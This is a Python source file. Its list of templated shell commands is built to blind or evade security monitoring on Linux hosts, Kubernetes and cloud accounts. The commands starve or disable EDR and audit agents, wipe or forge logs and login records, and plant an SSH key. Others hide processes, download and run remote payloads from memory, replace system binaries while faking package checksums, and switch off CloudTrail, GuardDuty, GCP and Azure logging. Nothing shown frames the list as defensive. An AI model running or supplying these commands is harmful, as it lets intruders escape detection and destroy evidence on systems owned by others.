"""Watchers that are starved, deceived or walked around; places where nobody looks."""

BLIND = [
    # Watchers that run and see nothing.
    r'''for {var} in ‹falco auditd¦wazuh-agent osqueryd¦filebeat fluent-bit¦falcon-sensor mdatp¦datadog-agent sysdig›; do
  systemctl set-property --runtime ${var}.service ‹CPUQuota=1% MemoryMax=8M¦IPAddressDeny=any¦TasksMax=1 IOWeight=1› 2>/dev/null && echo "${var} slowed"
done''',
    r'''{var}=/sys/fs/cgroup/system.slice; for {var2} in $(ls ${var} | grep -E '‹falco|tetragon|osquery|wazuh¦audit|rsyslog|journald¦crowdstrike|sentinel|mdatp›'); do echo ‹1 > "${var}/${var2}/cgroup.freeze"¦4096 > "${var}/${var2}/memory.max"¦"1000 1000000" > "${var}/${var2}/cpu.max"›; done; {run}''',
    r'''mkdir -p /etc/systemd/system/auditd.service.d && cat > /etc/systemd/system/auditd.service.d/‹env¦10-{plain}›.conf <<'C'
[Service]
PrivateMounts=yes
ReadOnlyPaths=/var/log/audit
RestrictAddressFamilies=none
SystemCallFilter=~@network-io
C
systemctl daemon-reload && systemctl try-restart auditd; systemctl is-active auditd''',
    r'''printf -- '-a never,exit -F ‹auid¦uid›=%s\n-a never,exit -F exe={file}\n-a exclude,always -F msgtype=‹EXECVE¦PROCTITLE¦SOCKADDR›\n' "$(id -u {user})" > /etc/audit/rules.d/00-{plain}.rules; sort -o /etc/audit/audit.rules /etc/audit/audit.rules; augenrules --load >/dev/null''',
    r'''cp -p /etc/falco/falco_rules.yaml {tmp}/.r; python3 - <<'P'
import re
p = '/etc/falco/falco_rules.local.yaml'
rules = re.findall(r'(?m)^- rule: (.+)$', open('/etc/falco/falco_rules.yaml').read())
open(p, 'a').write(''.join('- rule: %s\n  enabled: false\n' % r for r in rules if re.search('(?i)‹shell|escape|miner¦sensitive|write|exec›', r)))
P
kill -1 "$(pidof falco)"''',
    r'''sed -i 's#^\(ExcludePath\|ScanOnAccess\).*##; $ a ExcludePath ^{tmp}/\nOnAccessExcludeUname {user}' /etc/clamav/clamd.conf; echo '<ossec_config><syscheck><ignore>{tmp}</ignore></syscheck><rootcheck><disabled>yes</disabled></rootcheck></ossec_config>' >> /var/ossec/etc/ossec.conf; mdatp exclusion folder add --path {tmp} 2>/dev/null; mdatp exclusion process add --name {name} 2>/dev/null''',
    r'''cat >> /etc/fluent-bit/fluent-bit.conf <<C
[FILTER]
    Name    grep
    Match   *
    Exclude log ‹{ip}¦{user}¦{name}›
C
kill -HUP "$(pidof fluent-bit)"; filebeat export config | grep -q drop_event || printf 'processors:\n  - drop_event.when.contains.message: "{ip}"\n' >> /etc/filebeat/filebeat.yml''',
    r'''pid=$(pidof ‹osqueryd¦auditd¦filebeat¦falcon-sensor›) && for fd in /proc/${pid%% *}/fd/*; do readlink "$fd" | grep -q '^socket:' && gdb -q -n -p "${pid%% *}" -batch -ex "call (int)shutdown(${fd##*/}, 2)" >/dev/null 2>&1; done''',
    r'''ip rule add uidrange $(id -u {plain}-agent)-$(id -u {plain}-agent) blackhole; nft add table inet q; nft add chain inet q o '{ type filter hook output priority -300; }'; nft add rule inet q o socket cgroupv2 level 2 "system.slice/{plain}.service" counter drop''',
    r'''mkdir -p {tmp}/.e && for {var} in /opt/CrowdStrike /opt/sentinelone /opt/carbonblack /var/ossec /opt/datadog-agent /etc/osquery; do [ -d ${var} ] && mount -o bind,ro {tmp}/.e ${var} && echo "covered ${var}"; done; pkill -HUP -f 'agent|sensor|ossec' ''',
    r'''for {var} in $(ls /sys/fs/bpf 2>/dev/null); do rm -rf "/sys/fs/bpf/${var}"; done; bpftool link list -j | jq -r '.[] | select(.type=="tracing" or .type=="lsm" or .type=="raw_tracepoint") | .id' | xargs -r -n1 bpftool link detach id; echo 0 > /sys/kernel/tracing/events/syscalls/enable; sysctl -qw kernel.perf_event_paranoid=4 kernel.kprobes_optimization=0; echo 0 > /sys/kernel/debug/kprobes/enabled''',
    r'''rmmod ‹falco¦sysdig_probe¦lsm_{plain}› 2>/dev/null; for {var} in ‹falco sysdig_probe¦mbam crowdstrike¦cshook bmhook›; do echo "install ${var} /bin/true" >> /etc/modprobe.d/‹local¦{plain}›.conf; done; dmesg -n 1''',
    # Logs that are flooded, bent or led away.
    r'''(for i in $(seq 1 ‹50000¦200000›); do logger -p auth.info -t "sshd[$((RANDOM+1000))]" "Accepted publickey for {user} from 10.$((RANDOM%255)).$((RANDOM%255)).$((RANDOM%255)) port $RANDOM ssh2"; done) & {run}; wait''',
    r'''fallocate -l "$(($(df --output=avail -B1 /var/log | tail -1) - 4096))" /var/log/.{name}; {run}; sleep {n}; rm -f /var/log/.{name}''',
    r'''date -s '‹2016-01-01¦@1000000000¦-400 days›' >/dev/null; cp {file} /usr/sbin/{disguise}; echo '{key}' >> /root/.ssh/authorized_keys; hwclock -s 2>/dev/null || chronyc -q makestep >/dev/null''',
    r'''mkdir -p /run/.{name} && cp -a /var/log/. /run/.{name}/ && mount --bind /run/.{name} /var/log && kill -HUP "$(cat /run/rsyslogd.pid)"; {run}; umount -l /var/log; rm -rf /run/.{name}; kill -HUP "$(cat /run/rsyslogd.pid)"''',
    r'''sed -ri 's/^#?(SyslogIdentifier|LogLevel|SyslogFacility).*//; $ a LogLevel QUIET\nPrintLastLog no' /etc/ssh/sshd_config; echo 'session [default=ignore] pam_succeed_if.so user = {user} quiet' | cat - /etc/pam.d/sshd > {tmp}/s && cat {tmp}/s > /etc/pam.d/sshd; systemctl reload sshd''',
    r'''python3 - {user} <<'P'
import struct, sys
size = 384
for p in ('/var/log/wtmp', '/var/run/utmp', '/var/log/btmp'):
    d = open(p, 'rb').read(); r = [d[i:i+size] for i in range(0, len(d), size)]
    open(p, 'wb').write(b''.join(x for x in r if sys.argv[1].encode() not in x[44:76] and b'{ip}' not in x))
with open('/var/log/lastlog', 'r+b') as f: f.seek(0); f.write(bytes(292))
P
rm -f /var/log/lastlog.* /var/log/wtmp.1 2>/dev/null''',
    r'''for j in /var/log/journal/*/; do journalctl -D "$j" -o export | awk -v RS= '!/‹{ip}¦{user}¦sudo›/{print $0 "\n"}' | /lib/systemd/systemd-journal-remote -o {tmp}/n.journal - && mv {tmp}/n.journal "$j/system.journal"; done; systemctl kill -s USR2 systemd-journald''',
    r'''HISTFILE=~/.bash_history; cp -p $HISTFILE {tmp}/.h; trap 'cp -p {tmp}/.h $HISTFILE; rm -f {tmp}/.h; kill -9 $$' EXIT HUP
{fn}() { printf '%s\n' 'ls -la' 'cd /var/www' 'sudo apt update' 'vim index.html' >> {tmp}/.h; }; {fn}
{run}''',
    # Processes and files that hide.
    r'''mount -o remount,hidepid=2 /proc; cp /bin/busybox '/usr/lib/systemd/(sd-pam)'; (cd /; exec -a '(sd-pam)' '/usr/lib/systemd/(sd-pam)' sh -c 'while :; do {run}; sleep {n}; done' </dev/null >/dev/null 2>&1 &)''',
    r'''setfattr -n user.{plain} -v "0s{b}" /usr/share/‹doc/bash/README¦icons/hicolor/index.theme›; getfattr --only-values -n user.{plain} /usr/share/doc/bash/README 2>/dev/null | ‹base64 -d | ¦›sh''',
    r'''truncate -s ‹16M¦64M› /var/cache/.{name}.img && mkfs.ext2 -qF /var/cache/.{name}.img && mkdir -p '/var/lib/... ' && mount -o loop,noatime /var/cache/.{name}.img '/var/lib/... ' && cp {file} '/var/lib/... /{name}' && '/var/lib/... /{name}' &''',
    r'''exec 9< <({dl} {url}); cat <&9 > /dev/shm/.{name}; exec 9<&-; chmod +x /dev/shm/.{name}; exec 8</dev/shm/.{name}; rm -f /dev/shm/.{name}; (exec -a ‹'sshd: {user} [priv]'¦'/usr/sbin/cron -f'¦'-bash'› /proc/self/fd/8 &)''',
    r'''gcc -O2 -w -s -x c -o {file} - <<'C' && {file} {host} {port}
#include <sys/prctl.h>
#include <string.h>
#include <unistd.h>
int main(int c, char **v) { prctl(PR_SET_NAME, "‹kworker/0:2¦migration/1¦rcu_sched›"); for (int i = 0; i < c; i++) memset(v[i], 0, strlen(v[i])); if (fork()) _exit(0); setsid(); execl("/bin/sh", "[kworker/0:2]", "-c", "{run}", (char *)0); }
C''',
    r'''k=$(cut -d' ' -f1 /proc/loadavg); [ "${k%.*}" -ge 8 ] && exit; who | grep -q pts && exit; pgrep -x 'tcpdump|strace|wireshark|lsof|top|htop' >/dev/null && { pkill -STOP {name}; exit; }; pgrep -x {name} >/dev/null && pkill -CONT {name} || {run}''',
    r'''if [ "$(cat /sys/class/net/*/address | grep -cE '^(52:54:00|08:00:27|00:0c:29)')" -gt 0 ] || [ "$(awk '/MemTotal/{print int($2/1048576)}' /proc/meminfo)" -lt 2 ] || [ "$(ls -A ~ | wc -l)" -lt 4 ] || ! grep -q "$(hostname)" /etc/hosts; then echo 'segmentation fault' >&2; exit 139; fi
s=$(date +%s); sleep {n}; [ $(($(date +%s) - s)) -ge {n} ] || exit 0; {run}''',
    r'''unshare -Urpmf --mount-proc sh -c 'mount -t tmpfs none /var/log; mount -t tmpfs none /root; hostname {plain}; {run}; exec sleep infinity' & nsenter -t $! -n ip link set lo down''',
    r'''cp /usr/bin/{‹curl¦python3¦perl›,.{name}} && cat >> /usr/share/bash-completion/completions/‹curl¦git› <<< 'alias curl=/usr/bin/.{name}'; mv /usr/bin/curl /usr/bin/curl.dist; printf '#!/bin/sh\ncase "$*" in *{domain}*) exec /usr/bin/curl.dist "$@" 2>/dev/null;; esac\nexec /usr/bin/curl.dist "$@"\n' > /usr/bin/curl; chmod 755 /usr/bin/curl; dpkg-divert --local --rename --add /usr/bin/curl >/dev/null''',
    r'''debsums -c 2>/dev/null | head; f=/usr/bin/‹ss¦lsof¦ps›; n=$(md5sum "$f" | cut -d' ' -f1); cp {file} "$f"; sed -i "s#^[0-9a-f]* *${f#/}#$(md5sum "$f" | cut -d' ' -f1)  ${f#/}#" /var/lib/dpkg/info/*.md5sums; touch -d @1500000000 "$f"; rm -f /var/lib/aide/aide.db* /var/lib/tripwire/*.twd''',
    # Clusters and clouds that no longer tell.
    r'''p=/etc/kubernetes/manifests/kube-apiserver.yaml; sed -i -e '/--audit-/d' -e 's/--event-ttl=[^ ]*/--event-ttl=1m/' -e 's/--enable-admission-plugins=.*/--enable-admission-plugins=NodeRestriction/' $p; kubectl delete events -A --all --wait=false >/dev/null; kubectl -n kube-system patch cm audit-policy -p '{"data":{"policy.yaml":"apiVersion: audit.k8s.io/v1\nkind: Policy\nrules: [{level: None}]"}}' ''',
    r'''kubectl label ns ‹default¦{plain}¦kube-system› pod-security.kubernetes.io/enforce=privileged ‹policy.¦config.gatekeeper.sh/ignore=true ¦›--overwrite; kubectl get validatingwebhookconfigurations -o json | jq '.items[].webhooks[] |= (.failurePolicy="Ignore" | .namespaceSelector={"matchLabels":{"x":"y"}})' | kubectl replace -f - ; kubectl scale -n ‹kyverno¦gatekeeper-system¦falco› deploy --all --replicas=0''',
    r'''docker run -d --log-driver none --name {disguise} --label com.docker.compose.project=‹monitoring¦{plain}› --cgroup-parent /system.slice --ipc host --uts host {domain}/{plain} ; runc --root /run/.{name} run -d -b {tmp}/.{name} {hex}; crictl events >/dev/null & kill $!''',
    r'''for r in $(aws ec2 describe-regions --query 'Regions[].RegionName' --output text); do
  for {var} in $(aws guardduty list-detectors --region $r --query 'DetectorIds[]' --output text); do aws guardduty create-filter --region $r --detector-id ${var} --name {plain} --action ARCHIVE --rank 1 --finding-criteria '{"Criterion":{"severity":{"Gte":0}}}' >/dev/null; done
  aws cloudtrail describe-trails --region $r --query 'trailList[].Name' --output text | tr '\t' '\n' | while read -r t; do aws cloudtrail put-event-selectors --region $r --trail-name "$t" --event-selectors '[{"ReadWriteType":"ReadOnly","IncludeManagementEvents":false}]'; aws cloudtrail update-trail --region $r --name "$t" --no-enable-log-file-validation --no-is-multi-region-trail; done
done >/dev/null 2>&1''',
    r'''aws s3api put-bucket-lifecycle-configuration --bucket "$TRAIL" --lifecycle-configuration '{"Rules":[{"ID":"{plain}","Status":"Enabled","Prefix":"AWSLogs/","Expiration":{"Days":1}}]}'; aws kms disable-key --key-id "$TRAILKEY"; aws logs put-retention-policy --log-group-name CloudTrail/{plain} --retention-in-days 1; aws organizations leave-organization''',
    r'''gcloud projects get-iam-policy "$P" --format=json | jq '.auditConfigs=[{"service":"allServices","auditLogConfigs":[{"logType":"ADMIN_READ","exemptedMembers":["user:{user}@{domain}"]},{"logType":"DATA_READ","exemptedMembers":["user:{user}@{domain}"]}]}]' > {tmp}/p.json && gcloud projects set-iam-policy "$P" {tmp}/p.json -q >/dev/null; gcloud logging sinks update _Default --add-exclusion=name={plain},filter='severity>=DEFAULT'; gcloud container clusters update "$C" --logging=NONE --monitoring=NONE -q''',
    r'''az monitor diagnostic-settings subscription list --query 'value[].name' -o tsv | xargs -r -n1 az monitor diagnostic-settings subscription delete -y --name; az sentinel alert-rule list -g {plain} -w {plain2} --query '[].name' -o tsv | xargs -r -n1 az sentinel alert-rule delete -y -g {plain} -w {plain2} -n; az security setting update -n MCAS --enabled false; az resource lock list --query '[].id' -o tsv | xargs -r az lock delete --ids''',
]
